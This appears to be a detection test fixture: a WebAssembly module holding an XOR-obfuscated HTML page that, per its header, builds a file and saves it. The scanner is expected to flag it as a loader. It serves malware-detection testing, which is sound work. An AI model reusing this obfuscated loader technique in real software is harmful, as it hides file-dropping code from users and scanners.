;; RUN: spoor trace % --json
;; WHAT: Decodes a page that builds a file of its own and saves it; an export returns address and length in
;;   one number.
;; EXPECT: verdict=SUSPICIOUS|MALICIOUS family=loader rule=load-code/page status=exited
(module
  (memory (export "memory") 1)
  (global $len i32 (i32.const 244))
  (func $decode (local $i i32)
    (loop $byte
      (i32.store8 offset=8192 (local.get $i)
        (i32.xor
          (i32.load8_u offset=2048 (local.get $i))
          (i32.add (i32.const 0x5a) (i32.rem_u (local.get $i) (i32.const 7)))))
      (br_if $byte (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (global.get $len)))))
  (func (export "render") (result i64)
    (call $decode)
    (i64.or (i64.shl (i64.const 8192) (i64.const 32)) (i64.extend_i32_u (global.get $len))))
  (data (i32.const 2048) "\66\33\28\30\32\61\5c\38\34\38\24\60\63\13\39\29\35\2d\2a\61\16\3b\29\7c\3f\7e\62\40\3b\2f\33\3f\76\7d\34\0c\2a\0d\1c\1f\12\21\1b\1a\1d\18\1f\1e\21\1b\79\75\66\7e\29\01\28\7b\3a\7d\63\7f\0e\3f\2c\7c\1f\32\30\02\72\00\3e\00\72\7f\1b\2e\22\2c\38\64\7f\42\3b\2b\2c\31\37\3c\01\2e\32\33\33\71\30\03\2e\3e\28\70\2d\2b\12\3f\3a\31\7f\23\76\5b\7a\2d\3d\2f\7e\3e\40\67\7b\38\32\3d\2a\0d\3f\35\28\73\3d\2d\05\3b\2f\39\18\32\3a\0d\3f\35\28\75\7c\3e\42\73\60\7c\3c\70\37\12\3f\3d\7c\60\7e\0a\32\16\75\3f\2f\3b\3e\14\3f\14\3e\37\3b\3c\14\0f\09\10\75\38\76\5b\7a\3a\72\39\31\28\0e\36\34\3d\39\7e\62\40\78\32\32\2b\31\36\03\3f\75\39\25\3b\7d\5b\7a\3a\72\3e\32\36\03\31\73\75\66\62\70\13\39\29\35\2d\2a\61\5c\75\39\33\39\27\61\5c\75\33\28\30\32\61"))
